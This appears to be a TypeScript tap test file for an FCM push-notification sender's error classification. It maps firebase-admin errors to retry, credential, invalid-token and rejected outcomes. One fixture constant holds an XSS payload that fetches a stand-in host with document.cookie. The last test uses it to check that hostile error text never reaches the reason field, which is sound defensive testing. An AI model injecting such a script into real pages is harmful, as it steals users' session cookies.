import t from 'tap'
import { fcmOutcome } from '../../../src/senders/fcm/fcm-outcome.js'

const HOSTILE = `<script>fetch('//evil.example/?'+document.cookie)</script>${'x'.repeat(2048)}`
const error = (code: unknown, message: unknown) => Object.assign(new Error(String(message)), { code, message })

t.test("reasons are firebase-admin's code names or our own words; the message is the detail", async (t) => {
  const cases: Array<[unknown, string, string]> = [
    [error('messaging/registration-token-not-registered', 'Requested entity was not found.'), 'invalid-token', 'registration-token-not-registered'],
    [error('messaging/invalid-registration-token', 'Invalid registration token'), 'invalid-token', 'invalid-registration-token'],
    [error('messaging/invalid-argument', 'The registration token is not a valid FCM registration token'), 'invalid-token', 'invalid-registration-token'],
    [error('messaging/invalid-argument', 'Request contains an invalid argument.'), 'rejected', 'invalid-argument'],
    [error('messaging/third-party-auth-error', 'Auth error from APNS or Web Push Service'), 'credentials', 'third-party-auth-error'],
    [error('messaging/message-rate-exceeded', 'Sending limit exceeded'), 'retry', 'message-rate-exceeded'],
    [error('app/network-timeout', 'Error while making request: timeout of 10000ms exceeded.'), 'retry', 'app/network-timeout'],
    [error(undefined, 'socket hang up'), 'retry', 'ConnectionError'],
    [error(undefined, 'something nobody expected'), 'rejected', 'UnknownError'],
    [error('<b>not/a code</b>', 'x'), 'rejected', 'UnknownError']
  ]
  for (const [failure, kind, reason] of cases) {
    t.match(fcmOutcome(failure), { kind, reason, detail: (failure as Error).message }, reason)
  }
  t.match(fcmOutcome(error('messaging/message-rate-exceeded', 'x'), 30), { kind: 'retry', retryAfterMs: 30_000 })
})

t.test('token endpoint failures: our code from the credential, configuration ones fail the application, the rest retry', async (t) => {
  // As firebase-admin wraps what oauth-credential.ts rejects with.
  const wrapped = (ours: string) => error('app/invalid-credential',
    `Credential implementation provided to initializeApp() via the "credential" property failed to fetch a valid Google OAuth2 access token with the following error: "${ours}".`)
  t.match(fcmOutcome(wrapped('TokenEndpointRefused (HTTP 400)')), { kind: 'credentials', reason: 'TokenEndpointRefused (HTTP 400)' })
  t.match(fcmOutcome(wrapped('TokenUriForbidden')), { kind: 'credentials', reason: 'TokenUriForbidden' })
  t.match(fcmOutcome(wrapped('DestinationForbidden')), { kind: 'credentials', reason: 'DestinationForbidden' })
  t.match(fcmOutcome(wrapped('TokenEndpointUnreachable')), { kind: 'retry', reason: 'TokenEndpointUnreachable' })
  t.match(fcmOutcome(wrapped('TokenEndpointError (HTTP 503)')), { kind: 'retry', reason: 'TokenEndpointError (HTTP 503)' })
  t.match(fcmOutcome(error('app/invalid-credential', 'Invalid access token generated')), { kind: 'retry', reason: 'TokenEndpointError' })
})

t.test('hostile text in an error never becomes the reason', async (t) => {
  for (const code of ['messaging/invalid-argument', 'messaging/unknown-error', 'app/invalid-credential', undefined, HOSTILE]) {
    const outcome = fcmOutcome(error(code, HOSTILE))
    if (outcome.kind === 'sent') throw new Error('not a failure')
    t.notOk(outcome.reason.includes('<') || outcome.reason.includes('evil') || outcome.reason.length > 64, `${String(code).slice(0, 30)}: ${outcome.reason}`)
    t.equal(outcome.detail, HOSTILE, 'kept whole for the log')
  }
})
